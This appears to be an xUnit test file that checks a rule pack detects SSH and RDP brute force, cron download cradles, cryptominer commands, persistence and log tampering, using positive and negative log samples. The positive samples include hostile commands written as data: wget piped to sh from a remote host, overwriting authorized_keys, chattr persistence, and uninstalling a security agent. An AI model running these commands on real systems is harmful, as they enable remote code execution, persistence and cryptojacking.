using Timeline.Core.Vocabulary;
using Xunit;
using Timeline.Core.Events;
using Timeline.Core.Findings;
using Timeline.Detection.Sigma;
using Timeline.Tests.Support;
using static Timeline.Tests.Detection.DetectionHarness;

namespace Timeline.Tests.Detection;

/// <summary>Each rule of our pack fires on a positive sample and stays quiet on a negative one.</summary>
public class RulePackTests
{
    private static readonly Lazy<RuleSet> Pack = new(() => RuleLoader.Load([Path.Combine(RepoPaths.Sigma, "rules")]));
    private static readonly DateTime T0 = new(2024, 3, 2, 3, 0, 0, DateTimeKind.Utc);

    private static List<RuleMatch> Hunt(params EventRecord[] events) =>
        new RuleEngine(Pack.Value, RepoMappings.Value).Evaluate(events).ToList();

    private static string IdOf(string title) => Pack.Value.Rules.Select(r => (r.Title, r.Id))
        .Concat(Pack.Value.Correlations.Select(c => (c.Title, c.Id))).Single(x => x.Title == title).Id;

    private static EventRecord Auth(string message, int second = 0, params (string, string)[] fields) => Event("linux/auth", message, T0.AddSeconds(second), fields);
    private static EventRecord Cron(string message, int second = 0, params (string, string)[] fields) => Event("linux/cron", message, T0.AddSeconds(second), fields);
    private static EventRecord History(string command) => Event("linux/bash-history", command, null, ("command", command), ("user", "root"));
    private static EventRecord Win(int second, params (string, string)[] fields) => Event("windows/evtx", "", T0.AddSeconds(second), fields);

    private static EventRecord SshFailed(int second, string ip) => Auth($"sshd[1]: Failed password for root from {ip} port 5 ssh2", second,
        ("program", "sshd"), ("event", "ssh_failed"), ("user", "root"), ("src_ip", ip));

    private static EventRecord SshAccepted(int second, string ip, string user = "root", string method = "password") =>
        Auth($"sshd-session[2]: Accepted {method} for {user} from {ip} port 6 ssh2", second,
            ("program", "sshd-session"), ("event", "ssh_accepted"), ("user", user), ("src_ip", ip), ("auth_method", method));

    private static void FiresOn(string title, EventRecord positive, EventRecord negative)
    {
        var id = IdOf(title);
        Assert.Contains(Hunt(positive), m => m.RuleId == id);
        Assert.DoesNotContain(Hunt(negative), m => m.RuleId == id);
    }

    private static void FiresOnCommand(string title, string positive, string negative)
    {
        FiresOn(title, History(positive), History(negative));
        // The same strings count when they arrive as a sudo COMMAND= or a cron CMD.
        var id = IdOf(title);
        Assert.Contains(Hunt(Auth("sudo: bob : COMMAND=" + positive, 0, ("program", "sudo"), ("event", "sudo"), ("command", positive), ("target_user", "root"))), m => m.RuleId == id);
        Assert.Contains(Hunt(Cron("CRON[9]: (root) CMD (" + positive + ")", 0, ("program", "CRON"), ("event", "cron_cmd"), ("cron_user", "root"), ("command", positive))), m => m.RuleId == id);
    }

    [Fact]
    public void EveryPackRuleHasTheRequiredMetadata()
    {
        Assert.Empty(Pack.Value.Errors);
        foreach (var r in Pack.Value.Rules)
        {
            Assert.True(Guid.TryParse(r.Id, out _), r.Title);
            Assert.Equal("Timeline project", r.Author);
            Assert.Contains(r.Tags, t => t.StartsWith("attack.t", StringComparison.Ordinal));
            Assert.True(RuleLevels.IsKnown(r.Level), r.Title);
            Assert.NotEmpty(r.FalsePositives);
        }
        Assert.All(Pack.Value.Correlations, c => Assert.True(Guid.TryParse(c.Id, out _), c.Title));
    }

    [Fact]
    public void SshBruteForceThenSuccessFiresOnlyAfterABurstFromTheSameAddress()
    {
        var chain = IdOf("SSH Brute Force Followed By Successful Login");
        var burst = IdOf("SSH Brute Force Burst From One Source");
        var attack = Enumerable.Range(0, 25).Select(i => SshFailed(i, "203.0.113.45")).Append(SshAccepted(600, "203.0.113.45")).ToArray();
        var matches = Hunt(attack);
        Assert.Contains(matches, m => m.RuleId == chain && m.EventId == attack[^1].Id);
        Assert.Contains(matches, m => m.RuleId == burst);

        var otherSource = Enumerable.Range(0, 25).Select(i => SshFailed(i, "203.0.113.45")).Append(SshAccepted(600, "198.51.100.7")).ToArray();
        Assert.DoesNotContain(Hunt(otherSource), m => m.RuleId == chain);
        var fewFailures = Enumerable.Range(0, 5).Select(i => SshFailed(i, "203.0.113.45")).Append(SshAccepted(60, "203.0.113.45")).ToArray();
        Assert.DoesNotContain(Hunt(fewFailures), m => m.RuleId == chain || m.RuleId == burst);
    }

    [Fact]
    public void RootOrPasswordLoginFromPublicAddressIgnoresPrivateRanges() =>
        FiresOn("SSH Root Or Password Login From A Public Address", SshAccepted(0, "203.0.113.45"), SshAccepted(0, "10.1.2.3"));

    [Fact]
    public void PublicKeyLoginOfAnOrdinaryUserIsNotFlagged()
    {
        var id = IdOf("SSH Root Or Password Login From A Public Address");
        Assert.DoesNotContain(Hunt(SshAccepted(0, "203.0.113.45", user: "deploy", method: "publickey")), m => m.RuleId == id);
    }

    [Fact]
    public void CronDownloadCradleFiresOnCurlPipedToShell() =>
        FiresOn("Cron Job Runs A Download Cradle",
            Cron("CRON[1]: (root) CMD (wget -q -O - http://203.0.113.9/d.sh | sh)", 0, ("program", "CRON"), ("event", "cron_cmd"), ("cron_user", "root"), ("command", "wget -q -O - http://203.0.113.9/d.sh | sh")),
            Cron("CRON[1]: (root) CMD (run-parts /etc/cron.hourly)", 0, ("program", "CRON"), ("event", "cron_cmd"), ("cron_user", "root"), ("command", "run-parts /etc/cron.hourly")));

    [Fact]
    public void CrontabChurnBurstNeedsTenOperationsInFiveSeconds()
    {
        var id = IdOf("Crontab Churn Burst");
        EventRecord Op(int ms, string ev) => Event("linux/cron", "crontab[5]: (root) " + ev, T0.AddMilliseconds(ms), ("program", "crontab"), ("event", ev == "LIST (root)" ? "cron_list" : "cron_replace"), ("cron_user", "root"));
        var burst = Enumerable.Range(0, 12).Select(i => Op(i * 100, i % 2 == 0 ? "LIST (root)" : "REPLACE (root)")).ToArray();
        Assert.Contains(Hunt(burst), m => m.RuleId == id);
        var slow = Enumerable.Range(0, 12).Select(i => Op(i * 60_000, "LIST (root)")).ToArray();
        Assert.DoesNotContain(Hunt(slow), m => m.RuleId == id);
    }

    [Fact]
    public void CronOwnedByServiceAccountFiresForRedis() =>
        FiresOn("Cron Change Or Job Owned By A Service Account",
            Cron("crontab[7]: (redis) REPLACE (redis)", 0, ("program", "crontab"), ("event", "cron_replace"), ("cron_user", "redis")),
            Cron("crontab[7]: (alice) REPLACE (alice)", 0, ("program", "crontab"), ("event", "cron_replace"), ("cron_user", "alice")));

    [Theory]
    [InlineData("@reboot", "/root/.configrc/a/upd>/dev/null 2>&1", true)]
    [InlineData("* * * * *", "wget -q -O - http://195.3.146.118/d.sh | sh", true)]
    [InlineData("*/30 * * * *", "sh /tmp/.x/update.sh", true)]
    [InlineData("0 3 * * *", "/usr/local/bin/backup.sh", false)]
    [InlineData("*/5 * * * *", "curl -fsS https://hc-ping.example/abc", false)]
    public void SuspiciousCrontabEntryShapes(string schedule, string command, bool expected)
    {
        var id = IdOf("Suspicious Crontab Entry");
        var ev = Event("linux/crontab", schedule + " " + command, null, ("event", "crontab_entry"), ("schedule", schedule), ("command", command), ("path", "/var/spool/cron/root"));
        Assert.Equal(expected, Hunt(ev).Any(m => m.RuleId == id));
    }

    [Fact]
    public void AuthorizedKeyWithBotnetCommentFires() =>
        FiresOn("Authorized Key With A Known Botnet Comment",
            Event("linux/authorized-keys", "ssh-rsa AAAA== mdrfckr", null, ("event", "authorized_key"), ("key_type", "ssh-rsa"), ("key_comment", "mdrfckr")),
            Event("linux/authorized-keys", "ssh-ed25519 AAAA== alice@laptop", null, ("event", "authorized_key"), ("key_type", "ssh-ed25519"), ("key_comment", "alice@laptop")));

    [Fact]
    public void AuthorizedKeysTamperingCommandFires() =>
        FiresOnCommand("SSH Authorized Keys Tampering Command",
            "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAA mdrfckr\">>.ssh/authorized_keys",
            "cat ~/.ssh/authorized_keys");

    [Fact]
    public void ChattrSettingImmutableFiresButRemovalDoesNot() =>
        FiresOnCommand("Immutable Attribute Set Or Renamed Chattr Used", "chattr +ia /var/spool/cron/root", "chattr -i /etc/resolv.conf");

    [Fact]
    public void RenamedChattrFires() =>
        FiresOn("Immutable Attribute Set Or Renamed Chattr Used", History("/usr/bin/tntrecht -ia /tmp"), History("lsattr /tmp"));

    [Fact]
    public void CloudAgentRemovalFires() =>
        FiresOnCommand("Cloud Provider Security Agent Removal",
            "curl http://update.aegis.aliyun.com/download/uninstall.sh | bash", "systemctl stop nginx");

    [Fact]
    public void CompetitorKillingFires() =>
        FiresOnCommand("Competing Miner Killing Idiom",
            "netstat -anp | grep :3333 | awk '{print $7}' | xargs kill -9", "netstat -anp | grep :443");

    [Fact]
    public void RivalMinerPkillFires() =>
        FiresOn("Competing Miner Killing Idiom", History("pkill -f kdevtmpfsi"), History("pkill -f firefox"));

    [Fact]
    public void MinerCommandLineFires() =>
        FiresOnCommand("Crypto Miner Command Line Or Tuning",
            "./xmrig -o stratum+tcp://198.51.100.7:3333 --donate-level=0 -B", "./configure --prefix=/usr");

    [Fact]
    public void MoneroWalletAsPoolUserFires()
    {
        var wallet = "4" + "8" + new string('A', 93);
        FiresOn("Crypto Miner Command Line Or Tuning", History($"./kswapd0 -o 198.51.100.7:80 -u {wallet} -p x"), History("./kswapd0 -u root"));
    }

    [Fact]
    public void MiningPoolHostFires() =>
        FiresOnCommand("Known Mining Pool Host In A Command", "./x -o pool.supportxmr.com:443", "curl https://example.com");

    [Fact]
    public void HistoryClearingFires() =>
        FiresOnCommand("Shell History Cleared Or Destroyed", "history -c && exit", "history | tail");

    [Fact]
    public void HistoryDisablingFiresAtLowLevel()
    {
        FiresOnCommand("Shell History Disabled For The Session", "unset HISTFILE", "echo $HISTFILE");
        Assert.Equal("low", Pack.Value.Rules.Single(r => r.Title == "Shell History Disabled For The Session").Level);
    }

    [Fact]
    public void RdpBruteForceThenType10LogonFires()
    {
        var chain = IdOf("RDP Brute Force Followed By Remote Interactive Logon");
        EventRecord Failed(int s, string ip) => Win(s, ("Channel", "Security"), ("EventID", "4625"), ("LogonType", "3"), ("IpAddress", ip), ("TargetUserName", "administrator"));
        EventRecord Logon(int s, string ip, string type = "10") => Win(s, ("Channel", "Security"), ("EventID", "4624"), ("LogonType", type), ("IpAddress", ip), ("TargetUserName", "administrator"));
        var attack = Enumerable.Range(0, 12).Select(i => Failed(i, "203.0.113.45")).Append(Logon(300, "203.0.113.45")).ToArray();
        Assert.Contains(Hunt(attack), m => m.RuleId == chain && m.EventId == attack[^1].Id);
        var networkLogon = Enumerable.Range(0, 12).Select(i => Failed(i, "203.0.113.45")).Append(Logon(300, "203.0.113.45", type: "3")).ToArray();
        Assert.DoesNotContain(Hunt(networkLogon), m => m.RuleId == chain);
    }

    [Fact]
    public void WinRing0ServiceInstallFiresOnSystem7045() =>
        FiresOn("WinRing0 Driver Service Installed",
            Win(0, ("Channel", "System"), ("EventID", "7045"), ("ServiceName", "WinRing0_1_2_0"), ("ImagePath", @"C:\Users\Public\x\WinRing0x64.sys")),
            Win(0, ("Channel", "System"), ("EventID", "7045"), ("ServiceName", "Spooler"), ("ImagePath", @"C:\Windows\System32\spoolsv.exe")));

    [Fact]
    public void WinRing0InSystemDriversFolderIsIgnored()
    {
        var id = IdOf("WinRing0 Driver Service Installed");
        Assert.DoesNotContain(Hunt(Win(0, ("Channel", "System"), ("EventID", "7045"), ("ServiceName", "HwMon"), ("ImagePath", @"C:\Windows\System32\drivers\WinRing0x64.sys"))), m => m.RuleId == id);
    }

    [Fact]
    public void WinRing0ServiceInstallFiresOnSecurity4697() =>
        FiresOn("WinRing0 Driver Service Installed (Security)",
            Win(0, ("Channel", "Security"), ("EventID", "4697"), ("ServiceName", "WinRing0_1_2_0"), ("ServiceFileName", @"C:\m\WinRing0x64.sys")),
            Win(0, ("Channel", "Security"), ("EventID", "4697"), ("ServiceName", "wuauserv"), ("ServiceFileName", @"C:\Windows\system32\svchost.exe")));

    [Fact]
    public void ScheduledTaskWithMinerArgumentsFires() =>
        FiresOn("Scheduled Task Carrying Miner Arguments",
            Win(0, ("Channel", "Security"), ("EventID", "4698"), ("TaskName", @"\Update"), ("TaskContent", "<Exec><Command>C:\\m\\x.exe</Command><Arguments>-o pool.supportxmr.com:443 --donate-level 1</Arguments></Exec>")),
            Win(0, ("Channel", "Security"), ("EventID", "4698"), ("TaskName", @"\GoogleUpdate"), ("TaskContent", "<Exec><Command>C:\\Program Files\\Google\\Update\\GoogleUpdate.exe</Command></Exec>")));
}
